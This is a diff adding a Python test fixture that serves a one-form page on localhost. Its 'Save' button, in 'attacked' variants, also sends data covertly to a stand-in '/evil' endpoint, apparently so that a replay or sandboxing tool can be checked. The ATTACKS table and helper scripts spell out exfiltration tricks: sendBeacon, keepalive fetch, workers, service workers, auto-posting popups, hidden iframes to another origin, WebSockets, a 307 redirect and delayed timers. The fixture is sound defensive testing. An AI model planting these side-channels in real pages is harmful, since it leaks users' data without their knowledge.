@@ -1,0 +1,146 @@
+"""A one-form site whose "Save" button does, in attacked versions, one more thing the recording never did.
+
+The server logs every request it receives (``ProbeSite.received``; WebSocket opens included), so a
+test can say, from the server's side, that nothing reached ``/evil``. ``site.variant`` picks what the
+click does besides the recorded ``POST /save`` (see :data:`ATTACKS`); ``"base"`` is the recording.
+"""
+
+from __future__ import annotations
+
+import threading
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
+
+SAVE = ("fetch('/save', {method: 'POST', headers: {'content-type': 'application/x-www-form-urlencoded'}, "
+        "body: 'note=' + encodeURIComponent(document.querySelector('[name=note]').value)});")
+
+#: What the click does besides saving, per variant; ``{other}`` is the site on another origin (localhost).
+ATTACKS = {
+    "base": "",
+    "worker": "new Worker('/worker.js');",
+    "shared-worker": "new SharedWorker('/worker.js');",
+    "keepalive": "fetch('/evil', {method: 'POST', body: 'x', keepalive: true});",
+    "beacon": "navigator.sendBeacon('/evil', 'x');",
+    "options": "fetch('/evil', {method: 'OPTIONS'});",
+    "put": "fetch('/evil', {method: 'PUT', body: 'x'});",
+    "popup": "window.open('/autopost');",
+    "popup-noopener": "window.open('/autopost', '_blank', 'noopener');",
+    "target-blank-link": "const a = document.createElement('a'); a.href = '/autopost'; a.target = '_blank'; "
+                         "document.body.append(a); a.click();",
+    "websocket": "new WebSocket('ws://' + location.host + '/evil-ws');",
+    "iframe-other-origin": "const f = document.createElement('iframe'); f.src = '{other}/evil?leak=1'; "
+                           "document.body.append(f);",
+    "iframe-post": "const f = document.createElement('iframe'); f.srcdoc = '<form method=post action=/evil>"
+                   "<input name=x value=1></form><script>document.forms[0].submit()<' + '/script>'; "
+                   "document.body.append(f);",
+    "navigate-other-origin": "setTimeout(() => { location.href = '{other}/evil?leak=1'; }, 50);",
+    "service-worker": "navigator.serviceWorker.register('/sw.js');",
+    "redirect": "",  # the server answers POST /save with a 307 to /evil (the body is posted again)
+    "timer": "",  # the page posts to /evil 1.5 s after it loads (a plan that starts by waiting)
+}
+
+WORKER = "fetch('/evil', {method: 'POST', body: 'from a worker'});"
+SW = ("self.addEventListener('install', (e) => e.waitUntil(fetch('/evil', {method: 'POST', body: 'sw'})));\n"
+      "self.addEventListener('fetch', () => {});")
+AUTOPOST = "<!doctype html><form method=post action=/evil><input name=x value=1></form>" \
+           "<script>document.forms[0].submit()</script>"
+
+
+@dataclass
+class Received:
+    method: str
+    path: str
+    body: bytes = b""
+
+
+@dataclass
+class ProbeSite:
+    variant: str = "base"
+    received: list[Received] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        handler = type("Handler", (_Handler,), {"site": self})
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server.server_port}"
+
+    @property
+    def other(self) -> str:
+        return f"http://localhost:{self.server.server_port}"
+
+    def evil(self) -> list[Received]:
+        return [r for r in self.received if r.path.startswith("/evil")]
+
+    def __enter__(self) -> ProbeSite:
+        self.thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+    def page(self) -> str:
+        attack = ATTACKS[self.variant].replace("{other}", self.other)
+        timer = ("<script>setTimeout(() => fetch('/evil', {method: 'POST', body: 'timer'}), 1500)</script>"
+                 if self.variant == "timer" else "")
+        return f"""<!doctype html><html><head><title>Note</title></head><body>
+<input name="note" aria-label="Note"> <button type="button" id="go">Save</button>
+<script>document.getElementById('go').addEventListener('click', () => {{ {SAVE} {attack} }});</script>
+{timer}</body></html>"""
+
+
+class _Handler(BaseHTTPRequestHandler):
+    site: ProbeSite
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+    def _send(self, status: int, body: str = "", kind: str = "text/html", **headers: str) -> None:
+        data = body.encode()
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(data)))
+        for name, value in headers.items():
+            self.send_header(name, value)
+        self.end_headers()
+        try:
+            self.wfile.write(data)
+        except ConnectionError:
+            pass
+
+    def _log(self) -> bytes:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length) if length else b""
+        self.site.received.append(Received(self.command, self.path, body))
+        return body
+
+    def do_GET(self) -> None:
+        self._log()
+        path = urlsplit(self.path).path
+        if path == "/page":
+            return self._send(200, self.site.page())
+        if path == "/worker.js":
+            return self._send(200, WORKER, "text/javascript")
+        if path == "/sw.js":
+            return self._send(200, SW, "text/javascript")
+        if path == "/autopost":
+            return self._send(200, AUTOPOST)
+        self._send(404, "not found")
+
+    def do_POST(self) -> None:
+        self._log()
+        if self.path == "/save" and self.site.variant == "redirect":
+            return self._send(307, "", Location="/evil")
+        self._send(200, "ok", "text/plain")
+
+    def do_PUT(self) -> None:
+        self._log()
+        self._send(200, "ok", "text/plain")
+
+    def do_OPTIONS(self) -> None:
+        self._log()
+        self._send(204)
